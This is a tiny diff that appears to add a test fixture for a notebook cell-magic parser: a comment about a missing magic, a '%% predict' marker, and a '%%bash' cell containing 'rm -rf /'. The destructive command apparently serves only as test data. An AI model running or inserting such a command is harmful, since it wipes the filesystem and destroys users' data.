@@ -1,0 +1,4 @@
+# A cell magic that is not there.
+# %% predict
+%%bash
+rm -rf /
